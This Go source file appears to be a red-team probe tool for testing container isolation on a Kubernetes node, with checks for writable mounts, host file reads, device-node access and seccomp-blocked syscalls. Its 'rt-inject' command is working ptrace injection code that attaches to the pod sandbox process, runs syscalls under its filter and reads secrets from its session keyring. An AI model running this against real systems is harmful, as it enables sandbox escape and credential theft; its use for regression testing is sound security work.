package main

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"

	"unsafe"

	"golang.org/x/sys/unix"
)

// The red team's probes: each checks one thing a fresh variant of a closed
// escape would give, without changing anything of the node.

func init() {
	register("rt-writable-mount", rtWritableMount)
	register("rt-read", rtRead)
	register("rt-mknod-open", rtMknodOpen)
	register("rt-syscall", rtSyscall)
	register("rt-inject", rtInject)
}

// rtWritableMount succeeds if the filesystem holding PATH is mounted
// read-write (statvfs's ST_RDONLY is clear).
//
//	attacker rt-writable-mount PATH
func rtWritableMount(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: rt-writable-mount PATH")
	}
	var st unix.Statfs_t
	if err := unix.Statfs(args[0], &st); err != nil {
		return fmt.Errorf("statfs %s: %w", args[0], err)
	}
	if st.Flags&unix.ST_RDONLY != 0 {
		return fmt.Errorf("%s is on a read-only mount", args[0])
	}
	return nil
}

// rtRead prints the content of PATH: a node file the container should not
// see.
//
//	attacker rt-read PATH
func rtRead(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: rt-read PATH")
	}
	b, err := os.ReadFile(args[0])
	if err != nil {
		return err
	}
	fmt.Printf("content: %s\n", strings.TrimSpace(string(b)))
	return nil
}

// rtMknodOpen makes a device node (b or c, major, minor) in /tmp and
// opens it for reading: the devices cgroup decides at open. Nothing is
// read.
//
//	attacker rt-mknod-open b|c MAJOR MINOR
func rtMknodOpen(args []string) error {
	if len(args) != 3 {
		return errors.New("usage: rt-mknod-open b|c MAJOR MINOR")
	}
	major, err1 := strconv.ParseUint(args[1], 10, 32)
	minor, err2 := strconv.ParseUint(args[2], 10, 32)
	if err := errors.Join(err1, err2); err != nil {
		return err
	}
	mode := uint32(unix.S_IFCHR)
	if args[0] == "b" {
		mode = unix.S_IFBLK
	}
	p := fmt.Sprintf("/tmp/rt-dev-%d", os.Getpid())
	if err := unix.Mknod(p, mode|0o600, int(unix.Mkdev(uint32(major), uint32(minor)))); err != nil {
		return fmt.Errorf("mknod %s: %w", p, err)
	}
	defer os.Remove(p)
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return fmt.Errorf("open %s %s:%s: %w", args[0], args[1], args[2], err)
	}
	return unix.Close(fd)
}

// rtSyscall makes one syscall that seccomp's RuntimeDefault refuses, with
// harmless arguments, and succeeds if the kernel ran it (any result but
// EPERM and ENOSYS, which are seccomp's answers).
//
//	attacker rt-syscall unshare-user|clone3-newuser|userfaultfd|bpf|perf|io_uring
func rtSyscall(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: rt-syscall NAME")
	}
	var errno unix.Errno
	switch args[0] {
	case "unshare-user":
		_, _, errno = unix.RawSyscall(unix.SYS_UNSHARE, unix.CLONE_NEWUSER, 0, 0)
	case "userfaultfd":
		_, _, errno = unix.RawSyscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC, 0, 0)
	case "bpf":
		// BPF_PROG_TYPE query on a zeroed attr: EINVAL if it runs.
		var attr [128]byte
		_, _, errno = unix.RawSyscall(unix.SYS_BPF, 0xffff, uintptr(unsafe.Pointer(&attr[0])), 128)
	case "perf":
		var attr [128]byte
		_, _, errno = unix.RawSyscall6(unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr[0])), 0, ^uintptr(0), ^uintptr(0), 0, 0)
	case "io_uring":
		var params [120]byte
		_, _, errno = unix.RawSyscall(unix.SYS_IO_URING_SETUP, 0, uintptr(unsafe.Pointer(&params[0])), 0)
	case "clone3-newuser":
		// struct clone_args with flags CLONE_NEWUSER only and size 0:
		// EINVAL if the kernel looks at it, no child is made.
		_, _, errno = unix.RawSyscall(unix.SYS_CLONE3, 0, 0, 0)
	default:
		return fmt.Errorf("unknown syscall probe %q", args[0])
	}
	if errno == unix.EPERM || errno == unix.ENOSYS {
		return fmt.Errorf("%s: %w", args[0], errno)
	}
	fmt.Printf("%s ran: errno %d (%v)\n", args[0], int(errno), errno)
	return nil
}

// rtInject attaches to PID (the pod sandbox, PID 1 of a shared PID
// namespace, needs CAP_SYS_PTRACE) and makes it run keyctl(2), which the
// pod's own seccomp filter refuses: the calls run under the tracee's
// filter, not the tracer's. It asks for the tracee's session keyring, and
// with DESC searches it for a "user" key and prints what it reads. The
// tracee is left as it was.
//
//	attacker rt-inject PID [DESC]
func rtInject(args []string) error {
	if len(args) < 1 || len(args) > 2 {
		return errors.New("usage: rt-inject PID [DESC]")
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	runtime.LockOSThread()
	in, err := attachInjector(pid)
	if err != nil {
		return err
	}
	defer in.detach()
	// The control: a syscall every filter allows runs in the tracee.
	self, err := in.syscall(unix.SYS_GETPID)
	fmt.Printf("injected getpid = %d (%v)\n", int64(self), err)
	if err != nil {
		return fmt.Errorf("injected getpid: %w", err)
	}
	// What the pod's own filter refuses must be refused in the tracee too.
	_, err = in.syscall(unix.SYS_UNSHARE, unix.CLONE_NEWUSER)
	fmt.Printf("injected unshare(CLONE_NEWUSER): %v\n", err)
	ses, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, sessionKeyring, 0)
	fmt.Printf("injected keyctl(KEYCTL_GET_KEYRING_ID, session) = %d (%v)\n", int64(ses), err)
	if err != nil {
		return fmt.Errorf("injected keyctl: %w", err)
	}
	if len(args) < 2 {
		return nil
	}
	page, err := in.syscall(unix.SYS_MMAP, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS, ^uint64(0), 0)
	if err != nil {
		return fmt.Errorf("injected mmap: %w", err)
	}
	defer in.syscall(unix.SYS_MUNMAP, page, 4096)
	strs := []byte("user\x00" + args[1] + "\x00")
	if _, err := unix.PtracePokeData(pid, uintptr(page), strs); err != nil {
		return fmt.Errorf("writing the tracee: %w", err)
	}
	id, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_SEARCH, sessionKeyring, page, page+5, 0)
	if err != nil {
		return fmt.Errorf("injected keyctl(KEYCTL_SEARCH, %q): %w", args[1], err)
	}
	buf := page + 1024
	n, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_READ, id, buf, 1024)
	if err != nil {
		return fmt.Errorf("injected keyctl(KEYCTL_READ, %d): %w", id, err)
	}
	out := make([]byte, min(n, 1024))
	if _, err := unix.PtracePeekData(pid, uintptr(buf), out); err != nil {
		return fmt.Errorf("reading the tracee: %w", err)
	}
	fmt.Printf("stolen through the sandbox: %s\n", out)
	return nil
}

// injector holds a stopped tracee and a syscall instruction in its text.
type injector struct {
	pid   int
	saved unix.PtraceRegs
	insn  uint64
}

func attachInjector(pid int) (*injector, error) {
	if err := unix.PtraceAttach(pid); err != nil {
		return nil, fmt.Errorf("ptrace(PTRACE_ATTACH, %d): %w", pid, err)
	}
	in := &injector{pid: pid}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		unix.PtraceDetach(pid)
		return nil, fmt.Errorf("wait4: %w", err)
	}
	if err := unix.PtraceGetRegs(pid, &in.saved); err != nil {
		unix.PtraceDetach(pid)
		return nil, fmt.Errorf("PTRACE_GETREGS: %w", err)
	}
	// A thread stopped in a syscall sits just after its instruction.
	code := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(in.saved.Rip-2), code); err != nil || code[0] != 0x0f || code[1] != 0x05 {
		unix.PtraceDetach(pid)
		return nil, fmt.Errorf("no syscall instruction before rip %#x (%x, %v)", in.saved.Rip, code, err)
	}
	in.insn = in.saved.Rip - 2
	return in, nil
}

// syscall runs one syscall in the tracee and returns its result.
func (in *injector) syscall(nr uint64, a ...uint64) (uint64, error) {
	regs := in.saved
	regs.Rax, regs.Orig_rax, regs.Rip = nr, ^uint64(0), in.insn
	args := []*uint64{&regs.Rdi, &regs.Rsi, &regs.Rdx, &regs.R10, &regs.R8, &regs.R9}
	for i, v := range a {
		*args[i] = v
	}
	if err := unix.PtraceSetRegs(in.pid, &regs); err != nil {
		return 0, fmt.Errorf("PTRACE_SETREGS: %w", err)
	}
	if err := unix.PtraceSingleStep(in.pid); err != nil {
		return 0, fmt.Errorf("PTRACE_SINGLESTEP: %w", err)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(in.pid, &ws, unix.WALL, nil); err != nil {
		return 0, fmt.Errorf("wait4: %w", err)
	}
	if err := unix.PtraceGetRegs(in.pid, &regs); err != nil {
		return 0, fmt.Errorf("PTRACE_GETREGS: %w", err)
	}
	if r := int64(regs.Rax); r < 0 && r > -4096 {
		return 0, unix.Errno(-r)
	}
	return regs.Rax, nil
}

// detach puts the tracee's registers back and lets it go.
func (in *injector) detach() {
	unix.PtraceSetRegs(in.pid, &in.saved)
	unix.PtraceDetach(in.pid)
}

// sessionKeyring is KEY_SPEC_SESSION_KEYRING (-3) as a register value.
var sessionKeyring = uint64(0xfffffffffffffffd)
